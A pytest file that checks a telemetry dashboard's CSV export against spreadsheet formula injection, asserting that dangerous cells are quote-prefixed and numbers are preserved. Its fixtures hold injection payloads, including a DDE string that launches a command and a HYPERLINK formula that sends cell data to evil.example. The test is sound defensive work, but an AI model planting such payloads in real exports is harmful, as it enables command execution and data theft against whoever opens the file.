"""CSV export: a device's keys and values must never become spreadsheet formulas (issue 13,
point 12). The dashboard's CSV button uses the same function: see test_big_device.py."""

from __future__ import annotations

import csv
import io

import httpx
import pytest

from tests.helpers import ServerThread
from tests.web_helpers import api

FORMULAS = {
    "sum": "=1+1",
    "dde": "+cmd|' /C calc'!A0",
    "minus": "-2+3",
    "at": "@SUM(A1:A9)",
    "tab": "\t=1+1",
    "cr": "\r=1+1",
}
NUMBERS = {"negative": -3.5, "negative_int": -7, "exponent": -1.5e20, "positive": 4.25}
HOSTILE_KEY = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def export(server: ServerThread, device_id: str) -> list[list[str]]:
    with api(server) as client:
        response = client.get(
            f"/api/plugins/telemetry/DEVICE/{device_id}/export.csv",
            params={"startTs": 0, "endTs": 10_000},
        )
    assert response.status_code == 200, response.text
    return list(csv.reader(io.StringIO(response.text, newline="")))


@pytest.fixture
def exported(server: ServerThread) -> dict[str, str]:
    """key → value cell of a device that sent formulas, numbers and a formula as a key,
    over the device HTTP API."""
    device = server.add_device("spreadsheet-victim")
    values: dict[str, object] = {**FORMULAS, **NUMBERS, "as_text": "-3.5", HOSTILE_KEY: 1}
    posted = httpx.post(
        f"{server.base_url}/api/v1/{device.token}/telemetry",
        json={"ts": 1000, "values": values},
    )
    assert posted.status_code == 200, posted.text
    rows = export(server, device.id)
    assert rows[0] == ["ts", "key", "value", "time"]
    assert {time for *_, time in rows[1:]} == {"1970-01-01T00:00:01.000+00:00"}  # ts 1000
    return {key: value for _, key, value, _ in rows[1:]}


def test_formulas_are_quoted_as_owasp_says(exported: dict[str, str]) -> None:
    for key, formula in FORMULAS.items():
        assert exported[key] == "'" + formula


def test_numbers_stay_numbers(exported: dict[str, str]) -> None:
    for key, number in NUMBERS.items():
        assert exported[key] == str(number)
        assert float(exported[key]) == number
    assert exported["as_text"] == "-3.5"  # a number sent as a string is still just a number


def test_a_formula_as_a_key_is_quoted_too(exported: dict[str, str]) -> None:
    assert exported["'" + HOSTILE_KEY] == "1"


def test_no_cell_starts_a_formula(exported: dict[str, str]) -> None:
    for cell in [*exported, *exported.values()]:
        if cell.startswith(FORMULA_STARTS):
            float(cell)  # only a plain number may start with + or -
